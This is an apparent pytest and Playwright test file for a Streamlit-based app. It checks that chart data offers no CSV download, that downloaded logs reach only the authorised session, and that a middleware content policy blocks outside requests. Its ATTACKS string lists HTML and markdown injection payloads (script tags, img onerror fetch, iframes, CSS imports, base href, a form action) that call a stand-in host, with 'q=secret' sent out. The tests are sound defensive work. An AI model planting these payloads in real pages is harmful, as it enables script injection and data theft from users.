"""The content policy of a page holds, and files go only to those allowed."""

import http.server
import re
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from playbook.core.base.access import Actor
from playbook.desk.plan import rollouts
from tests.browser.access.test_inert import offered_by, opened_up
from tests.browser.conftest import TODAY
from tests.browser.screen import Screen
from tests.web.asking import ask
from tools import server


@pytest.fixture(scope="module")
def sample(tmp_path_factory) -> Iterator[tuple[server.Server, str]]:
    folder: Path = tmp_path_factory.mktemp("sample")
    with server.open_data(folder, TODAY) as here:
        rollout, _ = rollouts.open_sample(here, Actor(name="Dana"), "2-after-august")
    with server.app(folder, today=TODAY) as running:
        yield running, rollout.id


@pytest.fixture
def window(screen, sample) -> Screen:
    """A window on the first page, with the sample open."""
    running, rollout_id = sample
    opened = screen(running)
    opened.open(f"?rollout={rollout_id}")
    return opened


def test_chart_numbers_offer_no_file_either(window):
    window.go("Delivery")
    page = window.page
    tables = page.get_by_test_id("stDataFrame").count()
    page.get_by_test_id("stVegaLiteChart").first.hover()
    page.get_by_role("button", name="Show data").first.click()
    expect(page.get_by_test_id("stDataFrame")).to_have_count(tables + 1)
    offered = offered_by(page.get_by_test_id("stMain"))
    assert offered.count("Search") == tables + 1
    assert not [name for name in offered if re.search("csv", name, re.I)]


def test_a_file_goes_to_whoever_may_have_it_and_nobody_else(window, sample):
    page = window.page
    window.go("Brief")
    opened_up(window)
    page.get_by_test_id("stFileUploaderDropzoneInput").first.set_input_files(
        {"name": "groups.csv", "mimeType": "text/csv", "buffer": b"Team,People\nStudio,9\n"}
    )
    expect(page.get_by_text("groups.csv")).to_be_visible()
    window.settle()
    window.go("Activity")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download the log").click()
    held = Path(download.value.path()).read_bytes()
    assert held.startswith(b'{"event_schema"')
    path, cookie = urlsplit(download.value.url).path, server.cookie(sample[0].token)
    assert ask(sample[0].port, path, headers={"Cookie": cookie}).body == held
    for stranger in ({}, {"Cookie": server.cookie("another")}):
        assert ask(sample[0].port, path, headers=stranger).status == 404
    assert (window.complaints, window.foreign) == ([], [])


# What a page would load or do if somebody's text became HTML, which no page of ours lets it (test_inert.py).
# Not here: going elsewhere as a whole, by <meta http-equiv=refresh> say, which no policy forbids.
ATTACKS = """
![picture]({there}/image?q=secret)
[![both]({there}/linked-image)]({there}/link)

![by reference][there]

[there]: {there}/reference

<img src="{there}/img" onerror="fetch('{there}/onerror')">
<script>fetch('{there}/script')</script>
<script src="{there}/script.js"></script>
<link rel="stylesheet" href="{there}/style.css">
<link rel="prefetch" href="{there}/prefetch">
<style>@import url({there}/import); p {{ background: url({there}/background) }}</style>
<p style="background: url({there}/style)">styled</p>
<iframe src="{there}/iframe"></iframe>
<object data="{there}/object"></object>
<embed src="{there}/embed">
<video src="{there}/video" poster="{there}/poster"></video>
<audio src="{there}/audio" autoplay></audio>
<svg><image href="{there}/svg"></image></svg>
<base href="{there}/">
"""
# What of it is asked for where nothing forbids it, and how long that may take.
ASKED, PATIENCE = {"image", "linked-image", "reference", "img", "iframe", "form"}, 60.0
FORM = '<form action="{there}/form"><button>Continue</button></form>'

PAGE = """
import sys
import streamlit as st
sys.path.insert(0, {root!r})
st.title("Attacked")
st.markdown({attacks!r}, unsafe_allow_html=True)
st.markdown({form!r}, unsafe_allow_html=True)
st.html({attacks!r})
st.dataframe({{"a": [1]}})
"""
ENVELOPED = """
import sys
sys.path.insert(0, {root!r})
import streamlit as st
from starlette.middleware import Middleware
from playbook.ui.shell.server import is_host_allowed
from playbook.web.http.middleware import Envelope
around = Middleware(Envelope, is_host_allowed=is_host_allowed, ours=[])
app = st.App({page!r}, middleware=[around])
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another site on this machine: its address, and what was asked of it."""
    asked: list[str] = []

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - as above

        def log_message(self, format: str, *args: object) -> None:
            """Nothing: what counts is in the list."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
        thread = threading.Thread(target=site.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{site.server_port}", asked
        site.shutdown()
        thread.join()


@pytest.fixture
def attacked(tmp_path, elsewhere, screen) -> Iterator[Callable[..., Screen]]:
    """Open a page that shows every attack as HTML, in the envelope or without it."""
    there, root = elsewhere[0], str(server.ROOT)
    page, app = tmp_path / "attacked.py", tmp_path / "enveloped.py"
    attacks, form = ATTACKS.format(there=there), FORM.format(there=there)
    page.write_text(PAGE.format(root=root, attacks=attacks, form=form))
    app.write_text(ENVELOPED.format(root=root, page=str(page)))
    started: list[server.Server] = []

    def opened(script: Path) -> Screen:
        started.append(server.start(script, tmp_path / "log", cwd=tmp_path))
        window = screen(started[-1])
        window.page.on("dialog", lambda dialog: (window.complaints.append("dialog"), dialog.dismiss()))
        window.page.goto(window.url)
        expect(window.page.get_by_text("Continue")).to_be_visible()
        window.settle()
        return window

    yield lambda *, is_enveloped: opened(app if is_enveloped else page)
    for one in started:
        one.stop()


def go_on(window: Screen) -> None:
    """Send the form, and give what is asked for its time."""
    window.page.get_by_text("Continue").dispatch_event("click")
    window.page.wait_for_timeout(1500)


@pytest.mark.long
def test_streamlit_alone_offers_a_table_as_a_file_and_asks_elsewhere(attacked, elsewhere):
    window = attacked(is_enveloped=False)
    main = window.page.get_by_test_id("stMain")
    expect(main.get_by_test_id("stElementToolbar").locator("button").first).to_be_attached()
    assert "Download as CSV" in offered_by(main)
    go_on(window)
    begun, paths = time.monotonic(), set[str]()
    while ASKED - paths and time.monotonic() - begun < PATIENCE:
        window.page.wait_for_timeout(50)
        paths = {path.partition("?")[0].strip("/") for path in elsewhere[1]}
    assert paths >= ASKED


def test_in_the_envelope_nothing_of_it_reaches_another_site(attacked, elsewhere):
    window = attacked(is_enveloped=True)
    go_on(window)
    assert elsewhere[1] == []
    forbidden = [words for words in window.complaints if words.startswith("against the policy")]
    assert any("img-src" in words for words in forbidden)
    assert any("form-action" in words for words in forbidden)
    assert "dialog" not in window.complaints
